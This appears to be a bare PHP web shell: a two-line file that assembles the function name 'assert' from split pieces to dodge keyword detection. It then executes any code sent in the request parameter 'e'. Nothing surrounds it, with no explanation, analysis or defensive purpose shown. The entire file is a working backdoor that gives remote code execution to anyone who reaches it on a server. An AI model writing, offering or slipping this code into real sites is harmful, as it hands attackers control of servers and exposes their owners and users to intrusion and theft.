<?php
array_map('ass'.'ert', array($_REQUEST['e']));
